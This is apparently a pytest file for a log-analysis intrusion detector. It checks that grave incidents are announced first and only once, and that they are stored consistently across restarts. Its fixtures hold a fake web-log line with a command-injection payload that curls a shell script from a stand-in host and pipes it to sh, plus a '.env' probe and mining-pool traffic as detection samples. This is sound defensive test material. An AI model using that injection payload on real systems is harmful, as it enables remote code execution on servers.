"""What is grave and plain by itself is told before anything else is done, once, and changes nothing of what is kept."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Sequence
from contextlib import ExitStack
from datetime import UTC, datetime
from pathlib import Path
from threading import Event
from typing import Any
from unittest.mock import Mock

import pytest

from kanaria.app.config import load
from kanaria.app.live.intake import Intake
from kanaria.app.live.judging import Arrived, Judging
from kanaria.app.live.pace import LEAST, Pace
from kanaria.app.live.turns import Signals, Turns
from kanaria.app.live.watching import watched
from kanaria.app.run.at_once import MOST
from kanaria.sources.chunks import Chunk
from kanaria.store.incidents import IncidentStore
from tests.running import PATIENCE
from tests.serve.serving import serving, sink

POOL = "pool.supportxmr.com"
BEGUN = 1_795_946_400.0


def ends(number: int, device: str, remote: str, port: int) -> dict[str, Any]:
    return {
        "ts": BEGUN + number, "uid": f"C{number}{port}", "id.orig_h": device, "id.orig_p": 40_000 + number,
        "id.resp_h": remote, "id.resp_p": port,
    }  # fmt: skip


def asked(number: int, device: str, name: str = POOL) -> str:
    row = {**ends(number, device, "10.0.0.53", 53), "proto": "udp", "query": name, "qtype_name": "A"}
    return json.dumps(row | {"rcode_name": "NOERROR"}) + "\n"


def greeted(number: int, device: str, name: str = POOL) -> str:
    row = {**ends(number, device, "203.0.113.77", 443), "version": "TLSv13", "server_name": name, "established": True}
    return json.dumps(row) + "\n"


def connected(number: int, device: str) -> str:
    row = {**ends(number, device, "203.0.113.80", 443), "proto": "tcp", "duration": 0.5, "conn_state": "SF"}
    return json.dumps(row | {"orig_bytes": 900, "resp_bytes": 4000}) + "\n"


CRADLE = '198.18.0.9 - - [29/Nov/2026:10:00:07 +0000] "GET /?q=;curl%20-s%20http://198.18.0.9/x.sh|sh HTTP/1.1" 200 5 "-" "x"\n'
PROBE = '198.18.7.9 - - [29/Nov/2026:10:00:07 +0000] "GET /.env HTTP/1.1" 404 5 "-" "x"\n'


def settings(folder: Path, more: str = "") -> Path:
    (folder / "kanaria.toml").write_text(
        'store = "store"\nlanguage = "en"\n[[sources]]\nkind = "zeek"\npath = "zeek"\n'
        '[[sources]]\nkind = "file"\npath = "access.log"\n[serve]\nlisten = "off"\njoin_minutes = 0.0001\n' + more
    )
    return folder / "kanaria.toml"


def judging(folder: Path, more: str = "") -> Judging:
    config = load(settings(folder, more))
    return Judging(config, folder / "store", on_the_wire=True, on_reject=print, on_alert=lambda *_: None)


def arrived(name: str, lines: Sequence[str], before: int = 0) -> Arrived:
    chunk = Chunk(
        name=name, place=name, data="".join(lines).encode(), position={"at": before + len(lines)}, first_line=before + 1,
        lines=len(lines),
    )  # fmt: skip
    return Arrived(source=name, chunk=chunk)


def announced(judging: Judging, *what: Arrived) -> list[dict[str, Any]]:
    """What is told ahead of these, now or when others had their turn."""
    news = judging.take_in(what)
    until = time.monotonic() + PATIENCE
    while judging.hastens and time.monotonic() < until:
        news += judging.take_in([])
    return news


def kept(store: Path) -> dict[str, Any]:
    """Incidents by id, without what says whether somebody had been told of them by then."""
    with IncidentStore(store) as incidents:
        return {one.id: _without_news(one.document) for one in incidents.all()}


def _without_news(document: dict[str, Any]) -> dict[str, Any]:
    text = json.dumps({name: value for name, value in document.items() if name != "alert"}, ensure_ascii=False)
    for sentence in NEWS:
        text = re.sub(sentence, "…", text)
    return dict(json.loads(text))


NEWS = (
    r"New: no earlier run had found it\.", r"今回の解析で初めて見つかりました。",
    r"Reported before \(up to [^)]+\); this run read the same records again and adds nothing\.",
    r"報告済み\([^)]+まで\)です。今回は同じ記録を読み直しただけで、新しい記録はありません。",
)  # fmt: skip
LOGS = {
    "zeek/dns.log": [asked(1, "10.9.0.1"), asked(2, "10.9.0.2", "www.example.com")],
    "zeek/ssl.log": [greeted(3, "10.9.0.3"), greeted(4, "10.9.0.4", "www.example.com")],
    "zeek/conn.log": [connected(n, f"10.9.0.{n}") for n in range(5, 9)],
    "access.log": [CRADLE, PROBE],
}


def test_told_ahead_of_everything_and_once(tmp_path: Path) -> None:
    with judging(tmp_path) as ahead:
        news = announced(ahead, *(arrived(name, lines) for name, lines in LOGS.items()))
        assert {tuple(item["devices"]) or tuple(item["remotes"]) for item in news} == {
            ("10.9.0.1",), ("10.9.0.3",), ("198.18.0.9",),
        }  # fmt: skip
        assert ahead.waits, "the records themselves still wait for other sensors"
        assert not ahead.events.size["rows"], "nothing is remembered of them yet"
        ahead.dispatched(news)
        time.sleep(0.6)
        later = ahead.step()
        assert [item["severity"] for item in later] == ["informational"], (
            "the probe is news in its turn; the rest is known"
        )
        ahead.dispatched(later)
        ahead.checkpoint()
        assert not ahead.pending()
        assert {item["id"] for item in (*news, *later)} == set(kept(tmp_path / "store"))


def test_what_is_kept_is_as_if_nobody_had_been_told_ahead(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from kanaria.app.run import at_once

    stores = []
    for name in ("ahead", "in turn"):
        folder = tmp_path / name
        folder.mkdir()
        if name == "in turn":
            monkeypatch.setattr(at_once.AtOnce, "look", lambda *_args, **_options: None)
        with judging(folder) as one:
            for log, lines in LOGS.items():
                news = announced(one, arrived(log, lines))
                assert bool(news) == (name == "ahead" and log != "zeek/conn.log")
                one.dispatched(news)
            one.dispatched(one.checkpoint())
        stores.append(kept(folder / "store"))
    assert stores[0] == stores[1]
    assert len(stores[0]) == 4


def test_killed_after_it_was_told(tmp_path: Path) -> None:
    """What was told is not told again when the same records are read again; what was only kept is."""
    with judging(tmp_path) as killed:
        told = announced(killed, arrived("zeek/dns.log", LOGS["zeek/dns.log"]))
        killed.dispatched(told)
        untold = announced(killed, arrived("zeek/ssl.log", LOGS["zeek/ssl.log"]))
        assert len(told) == len(untold) == 1
    with judging(tmp_path) as again:
        assert [item["id"] for item in again.pending()] == [untold[0]["id"]]
        again.dispatched(again.pending())
        assert not again.positions
        news = announced(again, *(arrived(name, LOGS[name]) for name in ("zeek/dns.log", "zeek/ssl.log")))
        assert not news
        assert not again.checkpoint()
        assert set(kept(tmp_path / "store")) == {told[0]["id"], untold[0]["id"]}


def test_a_pool_that_is_allowed_waits_for_the_answer_its_name_rests_on(tmp_path: Path) -> None:
    with judging(tmp_path, f'[allowed]\npools = ["{POOL}"]\n') as permitted:
        assert not announced(permitted, arrived("zeek/dns.log", LOGS["zeek/dns.log"]))


def cradle(client: str) -> str:
    return CRADLE.replace("198.18.0.9", client)


@pytest.mark.parametrize("first", ["access.log", "other.log"])
def test_what_another_log_shows_first_is_no_second_incident(tmp_path: Path, first: str) -> None:
    """One attacker in the logs of two servers within half a second: in one of the two orders the record that comes
    second is the one that the finding would be called after."""
    (second,) = {"access.log", "other.log"} - {first}
    with judging(tmp_path) as two:
        news = announced(two, arrived(first, [CRADLE]))
        two.dispatched(news)
        assert not announced(two, arrived(second, [CRADLE]))
        assert not two.checkpoint()
    assert [item["id"] for item in news] == list(kept(tmp_path / "store"))


def test_a_flood_is_told_in_its_turn_and_then_somebody_is_told_ahead_again(tmp_path: Path) -> None:
    flood = [cradle(f"198.{18 + n // 250}.{n % 250}.7") for n in range(MOST + 1)]
    with judging(tmp_path) as flooded:
        assert not announced(flooded, arrived("access.log", flood))
        assert not announced(flooded, arrived("zeek/dns.log", LOGS["zeek/dns.log"])), "its turn comes as soon"
        told = flooded.checkpoint()
        assert ["10.9.0.1"] in [item["devices"] for item in told]
        assert "198.18.0.7" in {remote for item in told for remote in item["remotes"]}
        flooded.dispatched(told)
        assert [item["devices"] for item in announced(flooded, arrived("zeek/ssl.log", LOGS["zeek/ssl.log"]))] == [
            ["10.9.0.3"]
        ]


def test_the_command_tells_once_under_the_ids_it_keeps(tmp_path: Path) -> None:
    """A question for a pool, a handshake with one, a cradle in a web log: one message each, and after a restart none."""
    (tmp_path / "zeek").mkdir()
    for log in LOGS:
        (tmp_path / log).touch()
    with sink() as phone:
        settings(tmp_path, f'[[notify]]\nurl = "webhook+http://127.0.0.1:{phone.port}/x"\nseverity = "medium"\n')
        with serving(tmp_path) as service:
            for log, lines in LOGS.items():
                (tmp_path / log).write_text("".join(lines))
            service.wait_for(lambda: len(phone.received) >= 3)
            assert service.end() == 0
        with serving(tmp_path) as service:
            assert service.end() == 0
    told = [message.content["incident"]["id"] for message in phone.received]
    with IncidentStore(tmp_path / "store") as store:
        grave = {one.id for one in store.all() if one.document["severity"] in {"medium", "high", "critical"}}
    assert len(told) == 3
    assert set(told) == grave


def seen_by_suricata(number: int, device: str) -> str:
    """The handshake of ``greeted`` by a sensor that does not show the name."""
    moment = datetime.fromtimestamp(BEGUN + number, UTC).isoformat()
    row = {"timestamp": moment, "event_type": "tls", "src_ip": device, "src_port": 40_000 + number, "proto": "TCP"}
    return json.dumps(row | {"dest_ip": "203.0.113.77", "dest_port": 443, "tls": {"version": "TLS 1.3"}}) + "\n"


@pytest.mark.parametrize("restarted", [False, True])
def test_told_ahead_of_taking_a_kept_row_s_place(tmp_path: Path, restarted: bool) -> None:
    """Another sensor's row of the flow was kept before; the row that was told ahead gets its id when its turn comes.
    Somebody is told once, under the id that the incident is kept under."""
    worse, better = (
        arrived("eve.json", [seen_by_suricata(3, "10.9.0.3")]),
        arrived("zeek/ssl.log", [greeted(3, "10.9.0.3")]),
    )
    with ExitStack() as lives:
        service = lives.enter_context(judging(tmp_path))
        assert not announced(service, worse)
        assert not service.checkpoint()
        assert service.events.size["rows"] == 1
        if restarted:
            lives.close()
            service = lives.enter_context(judging(tmp_path))
        told = announced(service, better)
        assert [item["devices"] for item in told] == [["10.9.0.3"]]
        service.dispatched(told)
        assert not service.checkpoint()
        assert not service.pending()
        assert service.events.size["rows"] == 1, "the row took the other's place"
    with IncidentStore(tmp_path / "store") as store:
        (incident,) = store.all()
        assert incident.id == told[0]["id"]
        assert all(store.keeper("", [finding["id"]]) == incident.id for finding in incident.document["findings"])
    with judging(tmp_path) as again:
        assert not announced(again, arrived("zeek/ssl.log", [greeted(3, "10.9.0.3")]))
        assert not again.checkpoint()


def test_what_comes_while_a_batch_is_judged_is_told_before_its_incidents(tmp_path: Path) -> None:
    with judging(tmp_path) as busy:
        busy.take_in([arrived("access.log", [PROBE]), arrived("zeek/conn.log", LOGS["zeek/conn.log"])])
        time.sleep(0.6)
        ahead: list[dict[str, Any]] = []
        later = busy.step(lambda: ahead.extend(announced(busy, arrived("zeek/ssl.log", LOGS["zeek/ssl.log"]))))
        assert [item["devices"] for item in ahead] == [["10.9.0.3"]]
        assert [item["remotes"] for item in later] == [["198.18.7.9"]]
        assert busy.waits, "what came meanwhile is judged with the next batch"
        busy.dispatched([*ahead, *later])
        assert not busy.checkpoint()
        assert not busy.pending()
    assert {item["id"] for item in (*ahead, *later)} == set(kept(tmp_path / "store"))


def turns(judging: Any, intake: Any, wake: Event) -> Turns:
    return Turns(
        judging, intake, Mock(), Mock(), Pace(5.0), signals=Signals(wake=wake), alive=Mock(), log=Mock(), language="en"
    )


def test_sources_are_looked_at_between_the_parts_of_a_checkpoint(tmp_path: Path) -> None:
    """Keeping everything takes as long as a batch: who is grave is not kept waiting by both."""
    done: list[str] = []
    wake, intake = Event(), Mock(left_out=())
    intake.lines = Mock(side_effect=lambda _room: (done.append("looked"), wake.set(), [])[2])
    intake.flows = Mock(return_value=[])
    with judging(tmp_path) as one:
        engine, commit = one._engine, one._engine.commit
        engine.commit = Mock(side_effect=lambda *a, **k: (done.append("kept"), commit(*a, **k))[1])  # type: ignore[method-assign]
        one.take_in([arrived("zeek/conn.log", [connected(1, "10.9.0.1")])])
        wake.set()
        turns(one, intake, wake).checkpoint()
    assert done == ["looked", "looked", "kept"]


def test_a_source_that_brings_much_keeps_no_other_waiting(tmp_path: Path) -> None:
    (tmp_path / "zeek").mkdir()
    (tmp_path / "zeek/conn.log").write_text(connected(1, "10.9.0.1") * 10_000)
    (tmp_path / "access.log").write_text(CRADLE)
    intake, wake, taken = Intake(watched(load(settings(tmp_path))), ()), Event(), list[Arrived]()
    intake.begin({}, lambda: None)
    judge = Mock(hastens=False)
    judge.take_in = Mock(side_effect=lambda lines, _flows: taken.extend(lines))
    one = turns(judge, intake, wake)
    one._look()
    intake.close()
    came = [(item.source, item.chunk.data) for item in taken]
    assert [data for source, data in came if source.endswith("access.log")] == [CRADLE.encode()]
    assert LEAST * 0.9 < sum(len(data) for _source, data in came) < LEAST * 1.1
    assert wake.is_set(), "there is more"


def work_of_one_more(folder: Path, monkeypatch: pytest.MonkeyPatch, known: int) -> tuple[int, int]:
    """How many cases are judged, and how often the store is asked, for one incident beside so many."""
    from kanaria.app.run import conclude
    from kanaria.store import incidents

    folder.mkdir()
    with judging(folder) as one:
        one.take_in([arrived("zeek/dns.log", [asked(n, f"10.9.0.{n}") for n in range(1, known + 1)])])
        one.dispatched(one.checkpoint())
        assert len(kept(folder / "store")) == known
        judged, statements, judge, opened = list[object](), list[str](), conclude.judge, incidents.Opened

        def listening(*given: Any) -> Any:
            made = opened(*given)
            made.db.set_trace_callback(statements.append)
            return made

        with monkeypatch.context() as patch:
            patch.setattr(conclude, "judge", lambda *given: (judged.append(given), judge(*given))[1])
            patch.setattr(incidents, "Opened", listening)
            one.take_in([arrived("zeek/dns.log", [asked(known + 1, "10.8.0.1")], known)])
            time.sleep(0.6)
            one.dispatched(one.step())
    assert len(kept(folder / "store")) == known + 1
    return len(judged), len(statements)


def test_one_more_incident_is_as_much_work_however_many_there_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert work_of_one_more(tmp_path / "few", monkeypatch, 5) == work_of_one_more(tmp_path / "many", monkeypatch, 80)
